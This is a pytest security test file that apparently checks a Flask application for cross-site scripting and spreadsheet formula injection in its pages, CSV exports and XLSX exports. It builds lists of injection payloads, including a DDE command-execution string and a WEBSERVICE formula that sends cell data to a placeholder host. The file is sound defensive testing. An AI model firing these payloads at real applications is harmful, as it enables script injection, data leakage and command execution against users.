"""What people type stays text: in every page as no element, in every export as no formula.

Payloads go into every text column of every row at once, in turn, so that every page that shows a
column meets them.
"""

from __future__ import annotations

import io
import itertools
from collections.abc import Iterator
from typing import Any

import openpyxl
import pytest
from bs4 import BeautifulSoup
from flask import Flask

from companion.core.access import Role
from tests.kit.pages import Browser
from tests.shape.crawl import fill, readings
from tests.shape.test_access import world  # noqa: F401 the fixture
from tests.shape.world import World

pytestmark = pytest.mark.sqlite_only

# Each would add an element or an attribute named zq, were it read as markup.
SCRIPTS = [
    before + payload
    for before in ("", '"', "'", "'>", '">', "</td>", "</textarea>", "</title>", "</script>", "-->")
    for payload in (
        "<zq>", "<zq/x=1", "<script zq>1</script>", "<img src=x zq=1>", " zq=1 ", "<svg/zq=1>",
        "<a href=javascript:zq zq>x</a>", "{{7*'zq'}}<zq>", "&lt;zq&gt;<zq>", "<!--><zq>",
    )
]  # fmt: skip
FORMULAS = [
    start + body
    for start in (
        "=", "+", "-", "@", "＝", "＋", "－", "＠", " =", "\u3000＝", "\u00a0=", "\t=", "'=", '"=',
        "\n=", ";=", ",=", "%0A=", "=+", "=-",
    )
    for body in (
        "1+1zq", 'HYPERLINK("http://zq.invalid","x")', "cmd|' /C calc'!A0zq", "SUM(A1:A2)*9&zq",
        '"zq"&"b"', 'IMPORTXML("http://zq.invalid","//a")', 'WEBSERVICE("http://zq.invalid/"&A1)',
        'DDE("zq","x")', "zq!A1", "IF(TRUE,zq,1)",
    )
]  # fmt: skip


def numbered(payloads: list[str], offset: int) -> Iterator[str]:
    """Every payload in turn with a number behind it, so that no two values are equal."""
    for number in itertools.count():
        yield f"{payloads[(number + offset) % len(payloads)]} {number}"


def added(data: bytes) -> list[str]:
    """Elements and attributes of the page that came out of a payload."""
    soup = BeautifulSoup(data, "html5lib")
    return [
        str(tag)[:120]
        for tag in soup.find_all(True)
        if "zq" in tag.name or any("zq" in name for name in tag.attrs)
        if not str(tag.get("href", "")).startswith(("/", "http"))
    ]


def pages_with_added_elements(app: Flask, made: World, offset: int) -> list[str]:
    """Addresses whose page was changed by a payload; used by the long run as well."""
    fill(numbered(SCRIPTS, offset))
    found, shown = [], 0
    for role in Role:
        browser = Browser(app).sign_in_as(made.users[role])
        for path, answer in readings(app, made, browser):
            if answer.mimetype == "text/html":
                shown += answer.get_data().count(b"zq")
                found += [f"{path}: {tag}" for tag in added(answer.get_data())]
    assert shown > 100, "the payloads are shown nowhere"
    return found


def live_formulas(app: Flask, made: World, offset: int) -> list[str]:
    """Cells of exports in which a payload would be calculated; used by the long run as well."""
    fill(numbered(FORMULAS, offset))
    found = []
    for role in (Role.COORDINATOR, Role.OFFICIAL, Role.MUNICIPALITY, Role.AUDITOR):
        browser = Browser(app).sign_in_as(made.users[role])
        for path, answer in readings(app, made, browser):
            data = answer.get_data()
            if data.startswith(b"PK") and "sheet" in answer.mimetype:
                found += [f"{path}: {cell}" for cell in _formulas(data)]
            elif answer.mimetype == "text/csv":
                found += [f"{path}: {line}" for line in _unguarded(data.decode("utf-8-sig"))]
    return found


def _formulas(data: bytes) -> list[Any]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [
        cell.value
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" and "zq" in str(cell.value)
    ]


def _unguarded(text: str) -> list[str]:
    import csv

    return [
        cell
        for row in csv.reader(io.StringIO(text))
        for cell in row
        if "zq" in cell and cell.lstrip(" \u00a0\u3000\t\r\n").startswith(tuple("=+-@＝＋－＠"))
    ]


@pytest.mark.parametrize("offset", [0, 37])
def test_no_payload_becomes_an_element(app: Flask, world: World, offset: int) -> None:  # noqa: F811
    assert len(SCRIPTS) >= 100
    assert pages_with_added_elements(app, world, offset) == []


@pytest.mark.parametrize("offset", [0, 67])
def test_no_payload_becomes_a_formula(app: Flask, world: World, offset: int) -> None:  # noqa: F811
    assert len(FORMULAS) >= 200
    assert live_formulas(app, world, offset) == []
